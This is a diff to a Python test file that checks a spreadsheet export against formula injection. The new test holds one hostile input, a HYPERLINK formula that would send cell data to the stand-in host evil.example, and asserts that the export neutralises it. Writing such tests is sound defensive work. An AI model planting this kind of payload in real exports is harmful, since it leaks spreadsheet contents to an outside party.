@@ -62,9 +62,17 @@ def test_cell_is_never_a_formula(client: Client, user: User, start: str) -> None
     operation = make_operation(user)
     message = make_message(account=account, text=f"\t {hostile}", url="")
     item_of(operation, message, state="failed", error=hostile)
-    for cell in table(client, operation)[0]:
-        assert not cell.startswith(report.FORMULA)
-    assert f"'{hostile}" in table(client, operation)[0]
+    cells = table(client, operation)[0]
+    assert not any(report.FORMULA.search(cell) for cell in cells)
+    assert f"'{hostile}" in cells
+
+
+def test_semicolon_begins_no_formula_either(client: Client, user: User) -> None:
+    """It ends a cell where commas write decimals."""
+    operation = make_operation(user)
+    hostile = 'hi; =HYPERLINK("http://evil.example/?"&A1)'
+    item_of(operation, make_message(account=make_account(user), text=hostile))
+    assert table(client, operation)[0][3] == "'" + hostile.replace(";", ",")
 
 
 def test_text_stays_in_its_cell(client: Client, user: User) -> None:
